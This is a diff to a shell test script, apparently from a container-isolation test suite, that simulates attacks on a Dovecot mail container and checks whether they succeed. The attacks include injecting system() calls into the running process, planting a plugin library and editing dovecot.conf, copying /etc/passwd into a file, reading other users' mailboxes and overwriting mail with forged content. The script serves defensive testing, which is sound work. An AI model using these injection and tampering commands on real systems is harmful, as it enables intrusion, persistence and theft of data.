@@ -267,8 +267,10 @@ attack_plugin_loaded() {
 	harm connect "$peer_address:4444"
 	thief_begin
 	preload_library "$(image_path dovecot /tmp/helper)" /etc/passwd
-	inject_pid "${container_pid[dovecot]}" "call (int) system(\"cp /tmp/helper $modules/lib99_helper_plugin.so; \
-sed -i 's/imap_quota imap_acl/imap_quota helper imap_acl/' /etc/dovecot/dovecot.conf; kill -HUP 1\")"
+	inject_pid "${container_pid[dovecot]}" "call (int) system(\"umask 022; \
+cp /tmp/helper $modules/lib99_helper_plugin.so; \
+sed -i 's/imap_quota imap_acl/imap_quota helper imap_acl/' /etc/dovecot/dovecot.conf\")"
+	reload_service
 	sleep 2
 	mail read user5@example.test secret5 || true
 	thief_got '^root:'
@@ -280,7 +282,7 @@ attack_code_shell() {
 	harm exec /usr/bin/id
 	harm write /tmp/out
 	held_session
-	inject dovecot 'dovecot/imap$' 'call (int) system("id >/tmp/out; cat /etc/passwd >>/tmp/out")'
+	inject dovecot 'dovecot/imap( |$)' 'call (int) system("id >/tmp/out; cat /etc/passwd >>/tmp/out")'
 	grep -q 'uid=5000' "$(image_path dovecot /tmp/out)"
 }
 
@@ -370,7 +372,7 @@ adaptive_other_boxes() {
 		commands+=("print (int) open(\"/var/mail/boxes/$file\", 0)" 'call (int) close($)')
 		n=$((n + 1))
 	done < <(cd "$boxes" && find example.test/user[1-5]/Maildir/{cur,new} -type f | head -n 30)
-	inject_pid "$(tasks_named dovecot 'dovecot/imap$' | head -n 1)" "${commands[@]}" | tee "$stage/answer"
+	inject_pid "$(tasks_named dovecot 'dovecot/imap( |$)' | head -n 1)" "${commands[@]}" | tee "$stage/answer"
 	[ "$(grep -cE '= [0-9]+$' "$stage/answer")" -ge "$n" ]
 }
 
@@ -383,7 +385,7 @@ adaptive_mail_forged() {
 	file=$(cd "$(volume_path dovecot /var/mail/boxes)" &&
 		find example.test/user1/Maildir/{cur,new} -type f | head -n 1)
 	# shellcheck disable=SC2016 # of gdb
-	inject_pid "$(tasks_named dovecot 'dovecot/imap$' | head -n 1)" \
+	inject_pid "$(tasks_named dovecot 'dovecot/imap( |$)' | head -n 1)" \
 		"set \$fd = (int) open(\"/var/mail/boxes/$file\", 1)" 'print (long) write($fd, "forged", 6)' \
 		'call (int) close($fd)' | grep -c '= 6$'
 }
